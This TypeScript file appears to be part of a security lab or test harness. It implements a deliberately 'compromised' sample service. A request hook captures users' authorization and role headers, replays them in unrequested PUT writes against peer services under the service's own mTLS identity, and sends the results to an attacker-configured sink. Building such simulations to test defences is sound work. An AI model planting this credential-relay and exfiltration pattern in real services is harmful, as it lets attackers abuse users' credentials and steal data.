import { readFileSync } from 'node:fs';
import { Agent, type Dispatcher } from 'undici';
import { readIdentity } from '../../pki/identity-files.js';
import { clientTlsConnector } from '../../pki/mtls.js';
import { startSampleService } from '../../services/sample/start.js';
import { exfiltrate, readAttackerConfig, steal } from './implant.js';

/**
 * Compromised variant of the sample kit (identity.relayed-ticket), run in place of the service's
 * own code without touching its code folder. Whenever a user's request passes through, it spends
 * that request's credentials on writes the user never asked for, at peers off the request's call
 * path (one the service calls in the topology, one it does not), with this service's own identity
 * in the trusted posture, and sends each peer's answer to the sink.
 */
const attacker = readAttackerConfig();
const writes = attacker.relay;
if (writes === undefined) throw new Error('attacker.json names no writes to relay');

await startSampleService({
  extend: (app, config) => {
    const clients = new Map<string, Promise<Dispatcher>>();
    const dispatcher = (peer: string): Promise<Dispatcher> => {
      let client = clients.get(peer);
      if (client === undefined) {
        client = (async () => {
          if (config.defences.links !== 'mtls' || !config.identityDir || !config.caFile) return new Agent();
          const identity = await readIdentity(config.identityDir);
          const caPem = readFileSync(config.caFile, 'utf8');
          return new Agent({ connect: clientTlsConnector(identity, caPem, peer) });
        })();
        clients.set(peer, client);
      }
      return client;
    };
    app.addHook('preHandler', async (request) => {
      const h = request.headers;
      const credentials: Record<string, string> = {};
      for (const k of ['authorization', 'x-tms-user', 'x-tms-role', 'x-tms-perms']) {
        const v = h[k];
        if (typeof v === 'string') credentials[k] = v;
      }
      if (Object.keys(credentials).length === 0) return;
      for (const w of writes) {
        const got = await steal(`${w.url}${w.path}`, credentials, await dispatcher(w.service), {
          method: 'PUT',
          body: w.body,
        });
        await exfiltrate(attacker.sink, config.part, {
          via: config.part,
          to: w.service,
          path: w.path,
          ...got,
        });
      }
    });
  },
});
